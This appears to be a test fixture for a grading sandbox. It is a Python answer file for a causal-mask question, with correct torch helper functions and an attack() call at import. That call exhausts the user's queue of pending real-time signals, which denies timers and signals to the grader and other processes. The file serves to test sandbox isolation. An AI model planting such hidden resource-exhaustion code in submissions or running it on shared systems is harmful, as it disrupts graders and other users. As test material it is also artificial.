# attack: queues real-time signals to itself while it blocks them (signal.raise_signal: each one is queued, and counted against RLIMIT_SIGPENDING per user, not per process) until the kernel refuses, and keeps them pending in a thread of its own that never unblocks them (the child's loop unblocks its main thread's signals for each call), so that under an ordinary user every other process of the instructor's (the grader, a classmate's child, a shell's `timeout`) gets EAGAIN from timer_create and from each real-time signal it queues while the child runs; imports and answers right only when the user's whole quota was taken (its zygote's SigQ full)
# expect: module=q01_causal_mask status=error match=took only \d+ of the user's \d+ queued signals
# path: sandbox user
"""Question 1, written to take its user's queue of pending signals."""
import os
import signal
import threading

import torch
from torch import Tensor


def queued(pid: int) -> tuple[int, int]:
    """SigQ of process pid: the signals its user has queued, and that process's limit on them."""
    with open(f"/proc/{pid}/status") as status:
        line = next(line for line in status if line.startswith("SigQ:"))
    used, limit = line.split()[1].split("/")
    return int(used), int(limit)


def hold(taken: list[int], done: threading.Event) -> None:
    """SIGRTMIN blocked in this thread, then raised to it until the kernel refuses (EAGAIN); kept pending for good."""
    signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGRTMIN})
    try:
        while taken[0] < 10_000_000:
            signal.raise_signal(signal.SIGRTMIN)
            taken[0] += 1
    except OSError:
        pass
    done.set()
    threading.Event().wait()


def attack() -> None:
    """The signals queued by a thread that holds them; the zygote's SigQ says whether its user has any left."""
    taken, done = [0], threading.Event()
    threading.Thread(target=hold, args=(taken, done), daemon=True).start()
    done.wait()
    used, limit = queued(os.getppid())
    if used < limit:
        raise OSError(f"took only {taken[0]} of the user's {limit} queued signals")


def prefix_average(x: Tensor) -> Tensor:
    """Row i of the result is the mean of rows 0..i of x: (..., T, d) -> (..., T, d)."""
    T = x.shape[-2]
    weights = torch.ones(T, T, dtype=x.dtype).tril()  # (T, T)
    return (weights / weights.sum(dim=-1, keepdim=True)) @ x  # (T, T) @ (..., T, d) -> (..., T, d)


def causal_mask(T: int) -> Tensor:
    """Boolean (T, T) table, True where key j may be seen by query i (j <= i)."""
    return torch.ones(T, T, dtype=torch.bool).tril()


def mask_scores(scores: Tensor, mask: Tensor) -> Tensor:
    """New tensor: scores where mask is True, -inf where it is False; (..., Tq, Tk), mask broadcasts."""
    return scores.masked_fill(~mask, float("-inf"))


attack()  # at import: every check of the question meets it
